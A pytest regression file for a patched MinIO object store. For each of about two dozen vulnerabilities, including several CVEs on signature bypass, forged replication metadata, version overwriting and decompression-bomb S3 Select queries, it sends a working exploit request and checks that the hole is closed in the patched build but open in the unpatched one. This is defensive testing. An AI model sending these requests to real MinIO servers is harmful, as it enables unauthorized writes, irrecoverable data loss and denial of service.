"""MinIO's holes that upstream no longer fixes: each is open in the unpatched program, and closed in ours."""

from __future__ import annotations

import base64
import datetime
import gzip
import io
import re
import ssl
import tarfile
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from minio.credentials import AssumeRoleProvider
from minio.datatypes import PostPolicy
from minio.error import S3Error
from minio.sse import SseCustomerKey, SseS3

from bundle.engine import Engine
from tests import http2, objectstore, streamed
from tests.objectstore import BUCKET, REGION, ROOT, WRITER, Server, text

pytestmark = pytest.mark.timeout(1800)
TODAY = datetime.datetime.now(datetime.timezone.utc)
SCOPE = f"{TODAY:%Y%m%d}/{REGION}/s3/aws4_request"
TRAILER = {
    "X-Amz-Content-Sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
    "X-Amz-Date": f"{TODAY:%Y%m%dT%H%M%SZ}",
    "X-Amz-Decoded-Content-Length": "5",
    "X-Amz-Trailer": "x-amz-checksum-crc32",
}
CHUNKED = b"5\r\nhello\r\n0\r\nx-amz-checksum-crc32:NhCmhg==\r\n\r\n"
NAMED = (
    f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={WRITER[0]}/{SCOPE}"
    f"&X-Amz-Date={TODAY:%Y%m%dT%H%M%SZ}&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
)
FORGED = {
    "Authorization": f"AWS4-HMAC-SHA256 Credential={WRITER[0]}/{SCOPE}, SignedHeaders=host, Signature={'0' * 64}"
}
EXTRACT = {"X-Amz-Meta-Snowball-Auto-Extract": "true"}
REPLICA = {"X-Minio-Source-Replication-Request": "true"}
SEALED = {
    "X-Minio-Replication-Server-Side-Encryption-Sealed-Key": base64.b64encode(b"x" * 64).decode(),
    "X-Minio-Replication-Server-Side-Encryption-Seal-Algorithm": "DAREv2-HMAC-SHA256",
    "X-Minio-Replication-Server-Side-Encryption-Iv": base64.b64encode(b"y" * 32).decode(),
}


@pytest.fixture(scope="module")
def ours(minio_program: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with objectstore.serving(minio_program, tmp_path_factory.mktemp("ours") / "site") as server:
        yield server


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("unpatched")
    with objectstore.serving(objectstore.unpatched(Engine()), folder / "site") as server:
        yield server


def archive(records: dict[str, str] | None = None, moment: int = 0) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("member")
        info.size, info.pax_headers, info.mtime = 5, records or {}, moment
        tar.addfile(info, io.BytesIO(b"hello"))
    return data.getvalue()


def there(server: Server, name: str, bucket: str = BUCKET) -> bool:
    """Whether an object was written."""
    found = server.client().list_objects(bucket, prefix=name, recursive=True)
    return any(item.object_name == name for item in found)


def lost(server: Server, name: str, key: SseCustomerKey | None = None) -> bool:
    """Whether an object was written that its writer cannot read; it may not even be listed."""
    try:
        return text(server.client(WRITER).get_object(BUCKET, name, ssec=key)) != "hello"
    except S3Error as error:
        return str(error.code) != "NoSuchKey"


def put_without_signature(server: Server, name: str) -> bool:
    """CVE-2026-41145."""
    server.raw("PUT", f"/{BUCKET}/{name}?{NAMED}", TRAILER, CHUNKED)
    return there(server, name)


def part_without_signature(server: Server, name: str) -> bool:
    """CVE-2026-41145, into somebody's upload."""
    client = server.client(WRITER)
    upload = client._create_multipart_upload(BUCKET, name, {})
    query = f"partNumber=1&uploadId={upload}&{NAMED}"
    server.raw("PUT", f"/{BUCKET}/{name}?{query}", TRAILER, CHUNKED)
    return bool(client._list_parts(BUCKET, name, upload).parts)


def streamed_as_another(server: Server, name: str) -> bool:
    """Like CVE-2026-41145: one's own key signs, in a header that begins with a space; the query names the root key."""
    other = next(bucket for bucket in objectstore.BUCKETS if bucket.user != "mlflow").name
    query = f"X-Amz-Credential={quote(f'{ROOT[0]}/{SCOPE}', safe='')}"
    path, authority = f"/{other}/{name}", f"{objectstore.NAME}:{server.port}"
    headers, body = streamed.put(authority, path, query, WRITER, REGION, b"hello")
    headers["authorization"] = f" {headers['authorization']}"
    place, context = (objectstore.NAME, server.port), ssl.create_default_context()
    context.load_verify_locations(server.root_ca)
    http2.ask(place, authority, context, "PUT", f"{path}?{query}", headers, body)
    return there(server, name, other)


def archive_with_wrong_signature(server: Server, name: str) -> bool:
    """CVE-2026-40344."""
    headers = {**TRAILER, **FORGED, **EXTRACT, "X-Amz-Meta-Minio-Snowball-Prefix": name}
    server.raw("PUT", f"/{BUCKET}/{name}.tar", headers, archive())
    return there(server, f"{name}/member")


def archive_without_signature(server: Server, name: str) -> bool:
    """CVE-2026-40344 with the name of CVE-2026-41145."""
    headers = {**TRAILER, **EXTRACT, "X-Amz-Meta-Minio-Snowball-Prefix": name}
    server.raw("PUT", f"/{BUCKET}/{name}.tar?{NAMED}", headers, archive())
    return there(server, f"{name}/member")


def replica_put(server: Server, name: str) -> bool:
    """CVE-2026-34204."""
    server.signed("PUT", f"/{BUCKET}/{name}", SEALED, b"hello")
    return lost(server, name)


def replica_query(server: Server, name: str) -> bool:
    """CVE-2026-34204, from the query."""
    query = "&".join(f"{key}={value.replace('=', '%3D')}" for key, value in sorted(SEALED.items()))
    server.signed("PUT", f"/{BUCKET}/{name}?{query}", {}, b"hello")
    return lost(server, name)


def replica_copy(server: Server, name: str) -> bool:
    """CVE-2026-34204, by a copy that replaces the metadata."""
    server.client(WRITER).put_object(BUCKET, f"{name}-0", io.BytesIO(b"hello"), 5)
    headers = {
        **SEALED,
        "X-Amz-Copy-Source": f"/{BUCKET}/{name}-0",
        "X-Amz-Metadata-Directive": "REPLACE",
    }
    server.signed("PUT", f"/{BUCKET}/{name}", headers)
    return lost(server, name)


def in_parts(
    server: Server,
    name: str,
    begin: dict[str, str],
    part: dict[str, str] | None = None,
    end: dict[str, str] | None = None,
) -> bool:
    """Upload in one part, with headers for each request; whether it was begun and then cannot be uploaded or ended."""
    status, begun = server.signed("POST", f"/{BUCKET}/{name}?uploads=", begin)
    if status != 200:
        return False
    upload = re.findall(b"<UploadId>(.+)</UploadId>", begun)[0].decode()
    target = f"/{BUCKET}/{name}?partNumber=1&uploadId={upload}"
    if server.signed("PUT", target, part, b"hello")[0] != 200:
        return part is None
    etag = server.client()._list_parts(BUCKET, name, upload).parts[0].etag
    listed = f"<Part><PartNumber>1</PartNumber><ETag>{etag}</ETag></Part>"
    whole = f"<CompleteMultipartUpload>{listed}</CompleteMultipartUpload>".encode()
    server.signed("POST", f"/{BUCKET}/{name}?uploadId={upload}", end, whole)
    return False


def replica_multipart(server: Server, name: str) -> bool:
    """CVE-2026-34204, at the beginning of an upload in parts."""
    return in_parts(server, name, SEALED)


def replica_complete(server: Server, name: str) -> bool:
    """CVE-2026-34204, at the end of an upload in parts that the server encrypts: its size is another one."""
    end = {**REPLICA, "X-Minio-Replication-Actual-Object-Size": "1"}
    in_parts(server, name, SseS3().headers(), end=end)
    return there(server, name) and server.client().stat_object(BUCKET, name).size != 5


def replica_encrypted(server: Server, name: str) -> bool:
    """CVE-2026-34204, in an upload in parts that the client's own key is to encrypt."""
    key = SseCustomerKey(b"k" * 32)
    own = {**REPLICA, **key.headers()}
    in_parts(server, name, {**SEALED, **own}, part=own, end=own)
    return lost(server, name, key)


def replica_form(server: Server, name: str) -> bool:
    """CVE-2026-34204, in the form of a browser's POST."""
    until = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(minutes=5)
    allowed = PostPolicy(BUCKET, until)
    allowed.add_equals_condition("key", name)
    for key, value in SEALED.items():
        allowed.add_equals_condition(key, value)
    fields = server.client(WRITER).presigned_post_policy(allowed)
    boundary = uuid.uuid4().hex
    pairs = {"key": name, "bucket": BUCKET, **fields, **SEALED}
    lines = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
        for key, value in pairs.items()
    ]
    head = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="x"\r\n\r\n'
    body = "".join([*lines, head, "hello", f"\r\n--{boundary}--\r\n"]).encode()
    kind = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    server.raw("POST", f"/{BUCKET}", kind, body)
    return lost(server, name)


def replica_archive(server: Server, name: str) -> bool:
    """CVE-2026-34204, in the records of an archive that is unpacked."""
    records = {f"minio.metadata.{key}": value for key, value in SEALED.items()}
    headers = {**EXTRACT, "X-Amz-Meta-Minio-Snowball-Prefix": name}
    server.signed("PUT", f"/{BUCKET}/{name}.tar", headers, archive(records))
    return lost(server, f"{name}/member")


def archive_dated(server: Server, name: str) -> bool:
    """Of the same kind: a version is dated by the archive that it comes in, and so is the newest for ever."""
    headers = {**EXTRACT, "X-Amz-Meta-Minio-Snowball-Prefix": name}
    server.signed("PUT", f"/{BUCKET}/{name}.tar", headers, archive(moment=4102444800))
    versions = server.client().list_objects(
        BUCKET, prefix=f"{name}/", include_version=True, recursive=True
    )
    return any(item.last_modified and item.last_modified.year == 2100 for item in versions)


def replica_dated(server: Server, name: str) -> bool:
    """Of the same kind: a new version that is dated before the old one, and so is not seen."""
    server.client(WRITER).put_object(BUCKET, name, io.BytesIO(b"hello"), 5)
    early = {"X-Minio-Source-Mtime": "2000-01-01T00:00:00Z"}
    server.signed("PUT", f"/{BUCKET}/{name}", early, b"other")
    versions = server.client().list_objects(BUCKET, prefix=name, include_version=True)
    return any(item.last_modified and item.last_modified.year == 2000 for item in versions)


def replica_version(server: Server, name: str) -> bool:
    """Of the same kind: a version is overwritten, by whoever may write a new one."""
    first = server.client(WRITER).put_object(BUCKET, name, io.BytesIO(b"hello"), 5)
    server.signed("PUT", f"/{BUCKET}/{name}?versionId={first.version_id}", {}, b"other")
    client = server.client()
    return text(client.get_object(BUCKET, name, version_id=first.version_id)) != "hello"


def replica_version_archive(server: Server, name: str) -> bool:
    """The same, by a record of an archive."""
    first = server.client(WRITER).put_object(BUCKET, f"{name}/member", io.BytesIO(b"first"), 5)
    records = {"minio.versionId": str(first.version_id)}
    headers = {**EXTRACT, "X-Amz-Meta-Minio-Snowball-Prefix": name}
    server.signed("PUT", f"/{BUCKET}/{name}.tar", headers, archive(records))
    client = server.client()
    found = client.get_object(BUCKET, f"{name}/member", version_id=first.version_id)
    return text(found) != "first"


def versions_forced_away(server: Server, name: str) -> bool:
    """Every version of what a prefix names goes by one header, for whoever may set a delete marker."""
    server.client(WRITER).put_object(BUCKET, f"{name}/one", io.BytesIO(b"hello"), 5)
    server.signed("DELETE", f"/{BUCKET}/{name}", {"X-Minio-Force-Delete": "true"})
    server.signed("DELETE", f"/{BUCKET}/{name}/one", {"X-Minio-Force-Delete": "true"})
    versions = server.client().list_objects(
        BUCKET, prefix=name, include_version=True, recursive=True
    )
    return not list(versions)


def copy_by_presigned_put(server: Server, name: str) -> bool:
    """SN-2026-011: a URL for one upload copies what its holder may not read."""
    client = server.client(WRITER)
    client.put_object(BUCKET, f"{name}-source", io.BytesIO(b"hello"), 5)
    url = client.presigned_put_object(BUCKET, name)
    target = url.removeprefix(f"https://{objectstore.NAME}:{server.port}")
    server.raw("PUT", target, {"X-Amz-Copy-Source": f"/{BUCKET}/{name}-source"})
    return there(server, name)


def copy_part_by_presigned_put(server: Server, name: str) -> bool:
    """SN-2026-011, into a part of an upload."""
    client = server.client(WRITER)
    client.put_object(BUCKET, f"{name}-source", io.BytesIO(b"hello"), 5)
    upload = client._create_multipart_upload(BUCKET, name, {})
    asked = {"partNumber": "1", "uploadId": upload}
    url = client.get_presigned_url("PUT", BUCKET, name, extra_query_params=asked)
    target = url.removeprefix(f"https://{objectstore.NAME}:{server.port}")
    server.raw("PUT", target, {"X-Amz-Copy-Source": f"/{BUCKET}/{name}-source"})
    return bool(client._list_parts(BUCKET, name, upload).parts)


def key_for_later(server: Server, name: str) -> bool:
    """A key makes another one, valid for a year, whatever its policy says."""
    place = f"https://{objectstore.NAME}:{server.port}"
    role = AssumeRoleProvider(
        sts_endpoint=place,
        access_key=WRITER[0],
        secret_key=WRITER[1],
        duration_seconds=31536000,
        region=REGION,
        http_client=server.pool,
    )
    try:
        return bool(role.retrieve().session_token)
    except (S3Error, ValueError):
        return False


SELECT = """<SelectObjectContentRequest><Expression>select {what} from s3object s</Expression>
<ExpressionType>SQL</ExpressionType><InputSerialization><CompressionType>GZIP</CompressionType>{form}
</InputSerialization><OutputSerialization><CSV/></OutputSerialization></SelectObjectContentRequest>"""
FORMS = {
    "csv": "<CSV><FileHeaderInfo>NONE</FileHeaderInfo></CSV>",
    "csv-header": "<CSV><FileHeaderInfo>USE</FileHeaderInfo></CSV>",
    "csv-delimiter": "<CSV><RecordDelimiter>;</RecordDelimiter></CSV>",
    "lines": "<JSON><Type>LINES</Type></JSON>",
}


def select(form: str) -> Callable[[Server, str], bool]:
    """CVE-2026-39414: one record of 400 MB, which is 400 kB when it is sent."""

    def attack(server: Server, name: str) -> bool:
        begin = '{"a":"' if form == "lines" else ""
        return selected(server, name, "count(*)", FORMS[form], record(begin, 400))

    return attack


def select_result(server: Server, name: str) -> bool:
    """Like CVE-2026-39414: a record of 1 MB selected 200 times over, by a query of 1 kB."""
    what = ",".join(["s._1"] * 200)
    return selected(server, name, what, FORMS["csv"], record("", 1))


def selected(server: Server, name: str, what: str, form: str, packed: bytes) -> bool:
    """Whether the server selects from a record for whoever may read it."""
    server.client(WRITER).put_object(BUCKET, name, io.BytesIO(packed), len(packed))
    target, body = f"/{BUCKET}/{name}?select=&select-type=2", SELECT.format(what=what, form=form)
    before = server.peak()
    _, said = server.signed("POST", target, {}, body.encode())
    return b"<Code>NotImplemented</Code>" not in said or server.peak() - before > 200


def record(begin: str, megabytes: int) -> bytes:
    data = io.BytesIO()
    with gzip.GzipFile(fileobj=data, mode="wb", compresslevel=1, mtime=0) as file:
        file.write(begin.encode())
        for _ in range(megabytes):
            file.write(b"a" * 1_000_000)
    return data.getvalue()


HOLES: dict[str, Callable[[Server, str], bool]] = {
    "put-without-signature": put_without_signature,
    "part-without-signature": part_without_signature,
    "streamed-as-another": streamed_as_another,
    "archive-with-wrong-signature": archive_with_wrong_signature,
    "archive-without-signature": archive_without_signature,
    "replica-put": replica_put,
    "replica-query": replica_query,
    "replica-copy": replica_copy,
    "replica-multipart": replica_multipart,
    "replica-complete": replica_complete,
    "replica-form": replica_form,
    "replica-archive": replica_archive,
    "replica-encrypted": replica_encrypted,
    "replica-dated": replica_dated,
    "archive-dated": archive_dated,
    "replica-version": replica_version,
    "replica-version-archive": replica_version_archive,
    "versions-forced-away": versions_forced_away,
    "copy-by-presigned-put": copy_by_presigned_put,
    "copy-part-by-presigned-put": copy_part_by_presigned_put,
    "key-for-later": key_for_later,
    **{f"select-{form}": select(form) for form in FORMS},
    "select-result": select_result,
}


@pytest.mark.parametrize("hole", HOLES)
def test_hole_is_closed_in_ours(hole: str, ours: Server) -> None:
    assert not HOLES[hole](ours, hole)


@pytest.mark.nightly  # compiles the object store a second time
@pytest.mark.parametrize("hole", HOLES)
def test_hole_is_open_without_our_patches(hole: str, bare: Server) -> None:
    assert HOLES[hole](bare, hole), (
        "nothing is shown by a test that passes where nothing is patched"
    )
